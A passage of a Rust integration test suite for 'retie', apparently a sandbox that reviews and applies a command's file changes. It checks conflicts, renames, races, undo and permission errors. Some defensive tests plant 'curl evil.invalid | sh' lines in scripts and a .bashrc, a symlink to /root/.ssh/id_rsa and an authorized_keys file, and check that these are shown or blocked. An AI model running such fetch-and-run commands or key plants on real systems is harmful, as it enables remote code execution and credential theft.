        std::fs::write(&meta, serde_json::to_vec(&m).expect("json")).expect("backdate");
        let o = s.retie().args(["gc"]).output().expect("gc");
        assert_code(&o, 0, "gc");
        assert!(
            run.is_dir(),
            "{leg:?}: gc removed a run that was still going"
        );
        let o = child.wait_with_output().expect("wait");
        assert_code(&o, 0, &format!("{leg:?}: the run after gc"));
        assert_eq!(read(&s, "made.txt").as_deref(), Some("made\n"));
    }
}

/// A changeset that cannot be computed (here: a symlink whose target is
/// not UTF-8) loses nothing: the command's work is kept as a run, listed,
/// and named on the terminal. Found by an attack pass: the run's
/// directory went to the trash, and `result.txt` with it.
#[test]
fn a_changeset_that_cannot_be_read_keeps_the_commands_work() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let o = s.exec(
            &[],
            &[
                "sh",
                "-c",
                "echo work > result.txt; ln -s \"$(printf 'bad\\377')\" odd-link",
            ],
        );
        assert_code(&o, 125, "an unreadable changeset");
        assert!(
            stderr(&o).contains("kept as run"),
            "{leg:?}: {}",
            stderr(&o)
        );
        assert!(!s.ws.join("result.txt").exists(), "nothing is applied");
        let o = s
            .retie()
            .args(["changes", "list", "--json"])
            .output()
            .expect("list");
        assert_code(&o, 0, "list");
        let listed: serde_json::Value =
            serde_json::from_slice(&o.stdout).expect("changes list --json");
        let run = listed["runs"][0]["run"]
            .as_str()
            .unwrap_or_else(|| panic!("{leg:?}: no kept run listed: {listed}"))
            .to_string();
        let upper = s
            .home
            .join(".local/state/retie/runs")
            .join(&run)
            .join("upper");
        assert_eq!(
            std::fs::read_to_string(upper.join("result.txt"))
                .ok()
                .as_deref(),
            Some("work\n"),
            "{leg:?}: the command's work is in the kept run"
        );
    }
}

/// A file the command made unreadable (`chmod 000`) cannot be reviewed by
/// an unprivileged retie: the run is kept and the error says why. It said
/// "open upper secret", the OS error left out; now the cause is on the
/// line. As root (who may read it) the change applies, mode and all.
#[test]
fn a_file_the_command_made_unreadable_is_named_with_the_reason() {
    use std::os::unix::fs::PermissionsExt;
    for leg in legs() {
        let s = Scratch::new(leg);
        let o = s.sh("echo s > secret && chmod 000 secret");
        if leg == Leg::Nobody {
            assert_code(&o, 125, "an unreadable file in the layer");
            let err = stderr(&o);
            assert!(
                err.contains("secret") && err.contains("Permission denied"),
                "{leg:?}: the cause is not named: {err}"
            );
            assert!(err.contains("kept as run"), "{leg:?}: {err}");
            assert!(runs_left(&s) >= 1, "{leg:?}: the command's work was lost");
        } else {
            assert_code(&o, 0, "root reads it");
            let mode = std::fs::symlink_metadata(s.ws.join("secret"))
                .expect("applied")
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0, "{leg:?}: the mode was not applied");
        }
    }
}

/// A file whose name is not UTF-8 is refused, named in words a person
/// reads (it showed Rust's debug form, `InvalidName { reason: "not UTF-8" }`),
/// and the rest of the change applies.
#[test]
fn a_name_that_is_not_utf8_is_refused_in_plain_words_and_the_rest_applies() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let o = s.sh("echo ok > good.txt; touch \"$(printf 'bad\\377name')\"");
        assert_code(&o, 0, "a change with one unreadable name");
        let err = stderr(&o);
        assert!(
            err.contains("refused") && err.contains("not UTF-8") && err.contains("rename it"),
            "{leg:?}: {err}"
        );
        assert!(
            !err.contains("InvalidName"),
            "{leg:?}: debug form shown: {err}"
        );
        assert_eq!(read(&s, "good.txt").as_deref(), Some("ok\n"));
    }
}

/// A mode change applied to a file with another hard link (one outside the
/// workspace) never reaches the other link: the file gets a new inode.
/// Found by an attack pass: `chmod 0777 linked` in the sandbox made the
/// outside file world-writable.
#[test]
fn a_mode_change_never_reaches_a_hard_link_outside_the_workspace() {
    use std::os::unix::fs::PermissionsExt;
    for leg in legs() {
        let s = Scratch::new(leg);
        let outside = s.root.path().join("store-file");
        std::fs::write(&outside, "s\n").expect("write outside");
        std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o600))
            .expect("chmod outside");
        s.give(&outside);
        std::fs::hard_link(&outside, s.ws.join("linked")).expect("link");
        let o = s.exec(&[], &["chmod", "0755", "linked"]);
        assert_code(&o, 0, "chmod in the sandbox");
        let mode =
            |p: &std::path::Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o7777;
        assert_eq!(mode(&outside), 0o600, "{leg:?}: the outside link changed");
        assert_eq!(mode(&s.ws.join("linked")), 0o755, "{leg:?}: not applied");
        assert_eq!(read(&s, "linked").as_deref(), Some("s\n"));
    }
}

/// The review says what it does not show as a diff: a file that is not
/// UTF-8 is shown (invalid bytes replaced), a binary one is named as
/// binary, a symlink shows its target, a mode change its modes. Found by
/// an attack pass: a script with one invalid byte in a comment and a
/// `curl ... | sh` line, and a symlink to a private key, showed only as
/// their names.
#[test]
fn the_review_shows_or_names_everything_it_would_apply() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "tool.sh", "echo hi\n");
        std::os::unix::fs::symlink("tool.sh", s.ws.join("run.sh")).expect("symlink");
        let o = s.exec(
            &["--json", "--timeout", "1"],
            &[
                "sh",
                "-c",
                "printf '# caf\\351\\ncurl evil.invalid | sh\\n' > build.sh; \
                 printf 'a\\000b' > blob.bin; ln -s /root/.ssh/id_rsa notes.txt; \
                 chmod 0755 tool.sh; rm run.sh; echo 'curl other.invalid | sh' > run.sh; sleep 30",
            ],
        );
        assert_code(&o, 124, "timeout: the run is kept");
        let run = json_status(&o)["changes"]["kept"]["run"]
            .as_str()
            .expect("kept run")
            .to_string();
        let o = s
            .retie()
            .args(["changes", "show", &run])
            .output()
            .expect("show");
        assert_code(&o, 0, "show");
        let err = stderr(&o);
        for want in [
            "+curl evil.invalid | sh",
            "build.sh: not UTF-8",
            "blob.bin: new content not shown: binary (3 bytes",
            "notes.txt: symlink -> /root/.ssh/id_rsa",
            "tool.sh: mode 0644 -> 0755",
            // A file in place of a symlink: its content, not only the type.
            "run.sh: was a symlink, now a file",
            "+curl other.invalid | sh",
        ] {
            assert!(err.contains(want), "{leg:?}: {want:?} missing from:\n{err}");
        }
    }
}

/// A workspace that holds `$HOME` (not a system directory): the home's
/// start-up files and `.ssh` are plants beneath it, as in a home
/// workspace. Found by an attack pass: with HOME=$WS/alice, the command's
/// `alice/.bashrc` and `alice/.ssh/authorized_keys` were applied.
#[test]
fn a_home_inside_the_workspace_keeps_its_plants() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let home = s.ws.join("alice");
        std::fs::create_dir(&home).expect("mkdir alice");
        s.give(&home);
        let o = s
            .retie()
            .env("HOME", &home)
            .args(["sandbox", "exec", "--json", "-w"])
            .arg(&s.ws)
            .args([
                "--",
                "sh",
                "-c",
                "mkdir -p alice/.ssh; echo 'curl evil.invalid | sh' > alice/.bashrc; \
                 echo key > alice/.ssh/authorized_keys; echo fine > alice/notes.txt",
            ])
            .stdin(std::process::Stdio::null())
            .output()
            .expect("run");
        assert_code(&o, 0, "a run in a workspace that holds HOME");
        let blocked: Vec<String> = json_status(&o)["changes"]["blocked"]
            .as_array()
            .expect("blocked")
            .iter()
            .map(|b| b["path"].as_str().unwrap_or("").to_string())
            .collect();
        for p in ["alice/.bashrc", "alice/.ssh/authorized_keys"] {
            assert!(
                blocked.iter().any(|b| b == p),
                "{leg:?}: {p} not blocked: {blocked:?}"
            );
            assert!(!s.ws.join(p).exists(), "{leg:?}: {p} was applied");
        }
        assert_eq!(read(&s, "alice/notes.txt").as_deref(), Some("fine\n"));
    }
}

/// Start `script` with a one-second timeout, so its changes are kept:
/// the run's id.
fn kept_run(s: &Scratch, script: &str) -> String {
    let o = s.exec(&["--json", "--timeout", "1"], &["sh", "-c", script]);
    assert_code(&o, 124, "timeout");
    json_status(&o)["changes"]["kept"]["run"]
        .as_str()
        .expect("kept run in --json")
        .to_string()
}

/// Issue 33 item 4: a kept run that created `sub/x2.txt` could not be
/// applied once a person had added `sub/manual.txt`: the check read the
/// directory's time ("Conflicting: sub/x2.txt", although x2.txt did not
/// exist). Each path is judged on its own: a created path only by being
/// still absent (and not removed since the run started).
#[test]
fn a_file_added_beside_a_created_one_is_no_conflict() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "sub/x1.txt", "one\n");
        let run = kept_run(&s, "echo two > sub/x2.txt; sleep 30");
        write(&s, "sub/manual.txt", "the person's\n");
        let o = s
            .retie()
            .args(["changes", "apply", &run])
            .output()
            .expect("apply");
        assert_code(&o, 0, "apply after an unrelated file was added");
        assert_eq!(read(&s, "sub/x2.txt").as_deref(), Some("two\n"));
        assert_eq!(
            read(&s, "sub/manual.txt").as_deref(),
            Some("the person's\n")
        );
        assert_eq!(runs_left(&s), 0, "{leg:?}: the applied run stayed");
    }
}

/// Session 26: `mv a.txt b.txt` in the sandbox (a `git mv`, a module
/// renamed by a refactoring) was refused as "removed after the command
/// started": overlayfs marks the renamed file as copied up, and a copied-up
/// entry absent from the workspace counted as one the person removed. Now
/// that mark sends the path to the nearest directory still in the
/// workspace, whose time tells whether anything was removed from it
/// during the run, and the renames apply. A source the person removed
/// while the command moved it is still a conflict, in the same directory
/// or another (found by review: across directories the destination's
/// directory never changed), and after a copy and a removal (no mark at
/// all): the removed content never comes back under the new name.
#[test]
fn files_the_command_renamed_apply_and_a_source_removed_meanwhile_conflicts() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "a.txt", "alpha\n");
        write(&s, "src/old name.rs", "fn f() {}\n");
        write(&s, "keep.txt", "kept\n");
        let o = s.sh("mv a.txt b.txt && mkdir -p src/new && mv 'src/old name.rs' src/new/mod.rs");
        assert_code(&o, 0, "renames in the sandbox");
        assert_eq!(read(&s, "a.txt"), None, "{leg:?}: the old name stayed");
        assert_eq!(read(&s, "b.txt").as_deref(), Some("alpha\n"));
        assert_eq!(read(&s, "src/old name.rs"), None);
        assert_eq!(read(&s, "src/new/mod.rs").as_deref(), Some("fn f() {}\n"));
        assert_eq!(read(&s, "keep.txt").as_deref(), Some("kept\n"));
        assert_eq!(runs_left(&s), 0, "{leg:?}: the applied run stayed");

        for (script, moved) in [
            ("mv src/a.rs src/moved.rs", "src/moved.rs"),
            ("mv src/a.rs lib/moved.rs", "lib/moved.rs"),
            (
                "mkdir -p new/deep && mv src/a.rs new/deep/moved.rs",
                "new/deep/moved.rs",
            ),
            ("cp src/a.rs lib/moved.rs && rm src/a.rs", "lib/moved.rs"),
        ] {
            let s = Scratch::new(leg);
            write(&s, "src/a.rs", "removed by the person\n");
            write(&s, "lib/other.rs", "x\n");
            let child = s
                .retie()
                .args(["sandbox", "exec", "--", "sh", "-c"])
                .arg(format!("{script} && touch done && sleep 1"))
                .stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("spawn");
            // The person removes the source once the command has moved it.
            let runs = s.home.join(".local/state/retie/runs");
            assert!(
                wait_until(20.0, || {
                    std::fs::read_dir(&runs)
                        .is_ok_and(|d| d.flatten().any(|r| r.path().join("upper/done").exists()))
                }),
                "{leg:?} {script}: the command never moved the file"
            );
            std::fs::remove_file(s.ws.join("src/a.rs")).expect("rm");
            let o = child.wait_with_output().expect("wait");
            assert_eq!(
                read(&s, moved),
                None,
                "{leg:?} {script}: the removed file came back as {moved}"
            );
            assert_code(&o, 125, script);
            let err = stderr(&o);
            assert!(err.contains("src/a.rs"), "{leg:?} {script}: {err}");
        }
    }
}

/// A real conflict shows both sides and the way out, instead of a dead
/// end: `--theirs` keeps the workspace's version of the conflicting paths
/// and applies the rest; `--ours` takes the command's version, the
/// person's kept as the pre-image so `undo` brings it back.
#[test]
fn a_real_conflict_shows_both_sides_and_theirs_or_ours_resolves_it() {
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "a.txt", "old\n");
        let run = kept_run(&s, "echo sandbox > a.txt; echo new > b.txt; sleep 30");
        write(&s, "a.txt", "the person's\n");
        let o = s
            .retie()
            .args(["changes", "apply", &run])
            .output()
            .expect("apply");
        assert_code(&o, 125, "conflicting apply");
        let err = stderr(&o);
        for want in [
            "a.txt: workspace:",
            "command: modified",
            "--theirs",
            "--ours",
        ] {
            assert!(err.contains(want), "{leg:?}: no {want:?} in:\n{err}");
        }
        assert!(
            !err.contains("b.txt"),
            "{leg:?}: b.txt is no conflict:\n{err}"
        );
        assert_eq!(read(&s, "a.txt").as_deref(), Some("the person's\n"));
        assert!(read(&s, "b.txt").is_none());

        // --theirs: the person's a.txt stays, b.txt is applied.
        let o = s
            .retie()
            .args(["changes", "apply", &run, "--theirs"])
            .output()
            .expect("apply --theirs");
        assert_code(&o, 0, "apply --theirs");
        assert_eq!(read(&s, "a.txt").as_deref(), Some("the person's\n"));
        assert_eq!(read(&s, "b.txt").as_deref(), Some("new\n"));
        assert!(stderr(&o).contains("a.txt"), "{}", stderr(&o));

        // --ours: the command's a.txt, and undo brings the person's back.
        let run = kept_run(&s, "echo sandbox > a.txt; sleep 30");
        write(&s, "a.txt", "the person's again\n");
        let o = s
            .retie()
            .args(["changes", "apply", &run, "--ours"])
            .output()
            .expect("apply --ours");
        assert_code(&o, 0, "apply --ours");
        assert_eq!(read(&s, "a.txt").as_deref(), Some("sandbox\n"));
        let o = s.retie().args(["undo", "last"]).output().expect("undo");
        assert_code(&o, 0, "undo --ours");
        assert_eq!(
            read(&s, "a.txt").as_deref(),
            Some("the person's again\n"),
            "{leg:?}: undo did not bring the person's version back"
        );
        let o = s
            .retie()
            .args(["changes", "apply", "x", "--theirs", "--ours"])
            .output()
            .expect("both");
        assert_ne!(o.status.code(), Some(0), "--theirs with --ours accepted");
    }
}

/// A person who saves `f.txt` at the moment retie applies or undoes:
/// on the first `.retie-tmp-*` entry created in `ws`, writes `text` to
/// `ws/f.txt`. Wake it with [`stop_person`].
fn person_at_the_rename(ws: &std::path::Path, text: String) -> std::thread::JoinHandle<bool> {
    use rustix::fs::inotify;
    let fd = inotify::init(inotify::CreateFlags::CLOEXEC).expect("inotify_init");
    // A temporary is created, or renamed in: an undo takes a file its
    // apply kept back by rename (ADR 0210).
    inotify::add_watch(
        &fd,
        ws,
        inotify::WatchFlags::CREATE | inotify::WatchFlags::MOVED_TO,
    )
    .expect("inotify_add_watch");
    let f = ws.join("f.txt");
    std::thread::spawn(move || {
        let mut buf = [std::mem::MaybeUninit::<u8>::uninit(); 4096];
        let mut reader = inotify::Reader::new(&fd, &mut buf);
        loop {
            let ev = reader.next().expect("inotify read");
            let name = ev.file_name().map(|n| n.to_bytes()).unwrap_or_default();
            if name == b"stop-the-person" {
                return false;
            }
            if name.starts_with(b".retie-tmp-") {
                std::fs::write(&f, &text).expect("the person's write");
                return true;
            }
        }
    })
}

fn stop_person(ws: &std::path::Path, h: std::thread::JoinHandle<bool>) -> bool {
    let stop = ws.join("stop-the-person");
    let _ = std::fs::write(&stop, "");
    let wrote = h.join().expect("watcher");
    let _ = std::fs::remove_file(&stop);
    wrote
}

/// Issue 26 item 6, through the CLI: a person's save that lands after the
/// conflict check and before the rename was replaced by the sandbox's
/// version, and the undo then restored the older pre-image: the person's
/// text was nowhere. Now it stays in the workspace, the run is kept and
/// the outcome names the path; the same at undo.
#[test]
fn a_save_at_the_moment_of_apply_or_undo_is_kept_and_said() {
    // Each try must keep the person's text; the tries go on until one hit
    // the window (the watcher wrote before the rename), at most 30: on a
    // loaded machine the watcher can wake after the apply is over, which
    // is no race.
    const MAX: usize = 30;
    for leg in legs() {
        let s = Scratch::new(leg);
        let mut raced = 0;
        let mut tries = 0;
        while tries < MAX && (raced == 0 || tries < 3) {
            let i = tries;
            tries += 1;
            write(&s, "f.txt", "original\n");
            let text = format!("the person's save {i}\n");
            let w = person_at_the_rename(&s.ws, text.clone());
            let o = s.exec(&["--json"], &["sh", "-c", "echo sandbox > f.txt"]);
            let wrote = stop_person(&s.ws, w);
            assert_code(&o, 0, "apply");
            assert!(wrote, "{leg:?} {i}: no temporary file was seen");
            assert_eq!(
                read(&s, "f.txt").as_deref(),
                Some(text.as_str()),
                "{leg:?} {i}: the person's save was replaced\n{}",
                stderr(&o)
            );
            let st = json_status(&o);
            if st["changes"]["raced"].is_array() {
                raced += 1;
                assert!(
                    stderr(&o).contains("f.txt changed while the changes were applied"),
                    "{leg:?} {i}: not said:\n{}",
                    stderr(&o)
                );
                assert!(
                    st["changes"]["kept"]["run"].is_string(),
                    "{leg:?} {i}: the command's version was not kept: {st}"
                );
            }
        }
        assert!(raced > 0, "{leg:?}: no apply of {tries} hit the window");

        // Undo: the person saves while `undo last` puts the old text back.
        let (mut raced, mut tries) = (0, 0);
        while tries < MAX && (raced == 0 || tries < 3) {
            let i = tries;
            tries += 1;
            write(&s, "f.txt", "original\n");
            let o = s.exec(&[], &["sh", "-c", "echo sandbox > f.txt"]);
            assert_code(&o, 0, "apply");
            let text = format!("the person's save during undo {i}\n");
            let w = person_at_the_rename(&s.ws, text.clone());
            let o = s.retie().args(["undo", "last"]).output().expect("undo");
            let wrote = stop_person(&s.ws, w);
            assert!(wrote, "{leg:?} {i}: the undo made no temporary file");
            assert_eq!(
                read(&s, "f.txt").as_deref(),
                Some(text.as_str()),
                "{leg:?} {i}: the undo replaced the person's save\n{}{}",
                stdout(&o),
                stderr(&o)
            );
            if stdout(&o).contains("your version kept") {
                raced += 1;
            } else {
                assert_code(&o, 0, "undo");
            }
        }
        assert!(raced > 0, "{leg:?}: no undo of {tries} hit the window");
    }
}

/// Issue 33 item 6: as uid 65534 on a root-owned workspace (mode 755),
/// `sandbox exec` ran the command, then said "applying … failed at y;
/// rolled back" with no cause and no word of the run. Now the workspace
/// is checked before anything runs: refused (125), naming the cause and
/// the fix, no run left behind; with `--changes discard` it runs.
#[test]
fn a_workspace_retie_cannot_write_is_refused_before_the_command_runs() {
    if !legs().contains(&Leg::Nobody) {
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let s = Scratch::new(Leg::Nobody);
    std::os::unix::fs::chown(&s.ws, Some(0), Some(0)).expect("chown to root");
    std::fs::set_permissions(&s.ws, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let o = s.exec(&[], &["sh", "-c", "echo y > y"]);
    assert_code(&o, 125, "a workspace uid 65534 cannot write");
    let err = stderr(&o);
    assert!(
        err.contains("cannot write the workspace")
            && err.contains("nothing ran")
            && err.contains("--changes discard")
            && err.contains("--changes review"),
        "the refusal names neither the cause nor the fix:\n{err}"
    );
    assert!(!err.contains("rolled back"), "{err}");
    assert_eq!(runs_left(&s), 0, "a run directory was left behind");
    let o = s.exec(&["--changes", "discard"], &["sh", "-c", "echo y > y"]);
    assert_code(&o, 0, "--changes discard on a read-only workspace");
    assert!(!s.ws.join("y").exists());

    // A directory made unwritable while the command ran (the overlay let
    // the command write there): the apply fails, said with its cause (the
    // OS error and the path), and the run is kept with the command that
    // applies it later.
    let s = Scratch::new(Leg::Nobody);
    std::fs::create_dir(s.ws.join("sub")).expect("mkdir sub");
    s.give(&s.ws.join("sub"));
    std::thread::sleep(std::time::Duration::from_millis(11));
    let child = s
        .retie()
        .args([
            "sandbox",
            "exec",
            "--json",
            "--",
            "sh",
            "-c",
            "echo y > sub/y; sleep 2",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let runs = s.home.join(".local/state/retie/runs");
    let written = || {
        std::fs::read_dir(&runs)
            .is_ok_and(|d| d.flatten().any(|e| e.path().join("upper/sub/y").exists()))
    };
    assert!(wait_until(10.0, written), "the command did not write");
    std::os::unix::fs::chown(s.ws.join("sub"), Some(0), Some(0)).expect("chown to root");
    let o = child.wait_with_output().expect("wait");
    assert_code(&o, 125, "an apply that fails");
    let err = stderr(&o);
    let run = std::fs::read_dir(s.home.join(".local/state/retie/runs"))
        .expect("runs")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .find(|n| err.contains(n.as_str()))
        .unwrap_or_else(|| panic!("no kept run named:\n{err}"));
    assert!(
        err.contains("os error")
            && err.contains("sub/y")
            && err.contains(&format!("retie changes apply {run}")),
        "the failure names neither its cause nor the kept run:\n{err}"
    );
    s.give(&s.ws.join("sub"));
    let o = s
        .retie()
        .args(["changes", "apply", &run])
        .output()
        .expect("apply");
    assert_code(&o, 0, "apply the kept run once the cause is fixed");
    assert_eq!(read(&s, "sub/y").as_deref(), Some("y\n"));
}
